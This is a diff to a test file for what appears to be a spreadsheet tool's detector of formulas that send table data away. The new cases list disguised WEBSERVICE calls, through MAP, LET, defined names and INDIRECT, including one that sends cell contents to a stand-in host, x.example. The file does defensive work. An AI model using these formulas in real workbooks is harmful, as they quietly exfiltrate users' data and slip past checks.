@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import pytest
 
-from workbook.merge.exposure import Exposure, looked_at, sends, sentences
+from workbook.merge.exposure import Exposure, looked_at, meanings, sends, sentences
 
 
 @pytest.mark.parametrize(
@@ -63,11 +63,17 @@ def test_a_workbook_with_nothing_of_it_needs_no_word() -> None:
         "['[x]&_xlfn.WEBSERVICE([@id])&['[y]",
         "out([@id])",
         "address",
+        "_xlfn.MAP(Contacts[id],_xleta.WEBSERVICE)",
+        "_xlfn.LET(f,_xlfn.WEBSERVICE,f(B2))",
+        '_xlfn.WEBSERVICE("https://x.example/"&INDIRECT("B"&ROW()))',
+        "WEBSERVICE (B2)",
+        "WEBSERVICE(B2",
     ],
 )
 def test_a_formula_that_can_send_what_it_reads_away_is_seen(formula: str) -> None:
     names = {"Out": ["_xlfn.LAMBDA(x,far(x))"], "far": ["_xlfn.WEBSERVICE(x)"]}
-    assert sends(formula, {**names, "address": ['_xlfn.WEBSERVICE("https://x.example"&$A2)']})
+    names["address"] = ['_xlfn.WEBSERVICE("https://x.example"&$A2)']
+    assert sends(formula, meanings(names))
 
 
 @pytest.mark.parametrize(
@@ -81,3 +87,19 @@ def test_a_formula_that_sends_nothing_of_the_table_is_none(formula: str) -> None
 def test_a_function_behind_a_title_with_an_apostrophe_is_seen() -> None:
     sheet = looked_at("Data", False, ["=['[x]&WEBSERVICE([@id])&['[y]"])
     assert sheet.senders == {"WEBSERVICE"}
+
+
+@pytest.mark.parametrize(
+    "formula",
+    ["='[1]a\"b'!A1&WEBSERVICE(A1)", '=Contacts[a"b]&WEBSERVICE("x")', "=_xleta.webservice"],
+)
+def test_a_function_behind_a_quotation_mark_in_a_name_is_seen(formula: str) -> None:
+    assert looked_at("Data", False, [formula]).senders == {"WEBSERVICE"}
+
+
+def test_a_defined_name_counts_as_what_it_stands_for() -> None:
+    known = meanings({"list": ["GETCONTACTS()"], "Far": ["near"], "near": ["WEBSERVICE(list)"]})
+    sheet = looked_at("x", True, ["=far"], known)
+    assert sheet.ours
+    assert sheet.senders == {"WEBSERVICE"}
+    assert not looked_at("x", True, ["=Image[id]"], known).senders, "a table may be called so"
